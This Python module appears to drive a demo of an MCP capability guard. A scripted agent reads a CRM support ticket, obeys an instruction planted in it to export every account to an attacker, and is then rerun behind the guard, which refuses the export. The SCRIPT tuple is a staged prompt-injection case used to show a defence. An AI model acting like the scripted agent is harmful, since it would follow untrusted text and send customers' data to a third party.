"""The story of `capx demo --mcp`: one agent and one MCP server, first as they are, then with a guard between them.

Laws: the server and the agent's script are the same in both runs. Each row is measured: what the agent read, and what
the server wrote. Every process that was started is ended.
"""

import asyncio
import subprocess
import sys
import time
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any, Final, NamedTuple

from mcp import ClientSession, StdioServerParameters
from mcp.client.stdio import get_default_environment, stdio_client
from mcp.shared.exceptions import MCPError
from mcp.types import TextContent

from capx import Authority, Bundle
from capx.agent.mcp_client import present
from capx_cli.demo.data import ACCOUNT, ACCOUNTS, INSTRUCTION, TENANT, TICKETS
from capx_cli.demo.mcp_crm import ATTACKER, EXPORTED
from capx_cli.demo.process import DemoProblem
from capx_cli.demo.row import Row

AUDIENCE: Final = "crm"
_COMMAND: Final = (sys.executable, "-P", "-m", "capx_cli.main", "mcp")
_SERVER: Final = (sys.executable, "-P", "-m", "capx_cli.demo.mcp_crm")
_ALLOWED: Final = ("read_account", "read_ticket")
_ALL: Final = ("export_accounts", *_ALLOWED)
_REFUSED: Final = "the task's grant allows only crm.read_account; crm.read_ticket"
_TICKET: Final = next(number for number, _, _, _, text in TICKETS if text == INSTRUCTION)

Steps = Sequence[tuple[str, Mapping[str, Any]]]
SCRIPT: Final[Steps] = (
    ("read_ticket", {"ticket": _TICKET}),
    ("export_accounts", {"to": ATTACKER}),
    ("read_account", {"account": ACCOUNT}),
)
"""What the model does: it reads a ticket, obeys what is written there, and goes on with its work."""


class Read(NamedTuple):
    """What the model read of one call."""

    tool: str
    text: str
    is_error: bool


class Run(NamedTuple):
    """One run of the agent: the tools that it was shown, and what it read."""

    tools: tuple[str, ...]
    read: tuple[Read, ...]


class Outcome(NamedTuple):
    """The runs of the demo, and its rows."""

    direct: Run
    guarded: Run
    rows: list[Row]
    seconds: float


def run(folder: Path) -> Outcome:
    """Run the agent against the server, then behind the guard; `folder` is empty."""
    began = time.monotonic()
    sinks = {name: folder / name for name in ("direct", "guarded")}
    for sink in sinks.values():
        sink.mkdir()
    log = folder / "servers.log"
    direct = asyncio.run(_run(_server(sinks["direct"]), log))
    with Authority.create_home(folder / "home") as authority:
        task = authority.open(tenant=TENANT, allow=[f"{AUDIENCE}.{tool}" for tool in _ALLOWED])
        guard = _guard(authority, folder, sinks["guarded"])
        guarded = asyncio.run(_run(guard, log, task.bundle))
        authority.complete(task.id)
        after = asyncio.run(_run(guard, log, task.bundle))
    rows = [
        Row("direct", "tools that the agent sees", ", ".join(_ALL), ", ".join(direct.tools)),
        Row("direct", "the export from the ticket", _sent(), _said(direct, "export_accounts")),
        Row("direct", "accounts at the attacker", str(len(ACCOUNTS)), str(_exported(sinks["direct"]))),
        Row("guarded", "tools that the agent sees", ", ".join(_ALLOWED), ", ".join(guarded.tools)),
        Row("guarded", "the export from the ticket", _REFUSED, _said(guarded, "export_accounts")),
        Row("guarded", "its own work", "2 of 2 served", f"{_served(guarded)} of 2 served"),
        Row("guarded", "calls after the task", "0 of 2 served", f"{_served(after)} of 2 served"),
        Row("guarded", "accounts at the attacker", "0", str(_exported(sinks["guarded"]))),
    ]
    return Outcome(direct, guarded, rows, time.monotonic() - began)


class _Command(NamedTuple):
    words: Sequence[str]
    env: Mapping[str, str] = {}


def _server(sink: Path) -> _Command:
    return _Command((*_SERVER, str(sink)))


def _guard(authority: Authority, folder: Path, sink: Path) -> _Command:
    """The server behind `capx mcp guard`, with the table that `capx mcp map` writes."""
    keys, table = folder / "crm.keys", folder / "crm.toml"
    authority.export_keys(AUDIENCE).save(keys)
    mapped = [*_COMMAND, "map", "--audience", AUDIENCE, "--out", str(table), "--", *_server(sink).words]
    ran = subprocess.run(mapped, capture_output=True, text=True, check=False)  # noqa: S603 # our own modules
    if ran.returncode:
        raise DemoProblem(f"capx mcp map failed: {ran.stderr.strip()[-400:]}")
    env = {"CAPX_KEY_FILE": str(keys), "CAPX_STORE": authority.store.place}
    return _Command((*_COMMAND, "guard", "--table", str(table), "--", *_server(sink).words), env)


async def _run(command: _Command, log: Path, bundle: Bundle | None = None) -> Run:
    first, *others = command.words
    server = StdioServerParameters(command=first, args=others, env={**get_default_environment(), **command.env})
    with log.open("a") as errors:
        async with stdio_client(server, errors) as (reading, writing), ClientSession(reading, writing) as session:
            await session.initialize()
            if bundle is not None:
                present(session, AUDIENCE, bundle)
            return await _acted(session)


async def _acted(session: ClientSession) -> Run:
    try:
        tools = tuple(sorted(tool.name for tool in (await session.list_tools()).tools))
    except MCPError:
        # After the task: then even the list is refused.
        tools = ()
    return Run(tools, tuple([await _called(session, tool, args) for tool, args in SCRIPT]))


async def _called(session: ClientSession, tool: str, args: Mapping[str, Any]) -> Read:
    result = await session.call_tool(tool, dict(args))
    text = " ".join(block.text for block in result.content if isinstance(block, TextContent))
    return Read(tool, text, result.is_error)


def _said(run: Run, tool: str) -> str:
    return next(read.text for read in run.read if read.tool == tool)


def _served(run: Run) -> int:
    """How many calls of the agent's own work were served."""
    return sum(not read.is_error for read in run.read if read.tool in _ALLOWED)


def _sent() -> str:
    return f"sent {len(ACCOUNTS)} accounts to {ATTACKER}"


def _exported(sink: Path) -> int:
    written = sink / EXPORTED
    return len(written.read_text().splitlines()) if written.exists() else 0
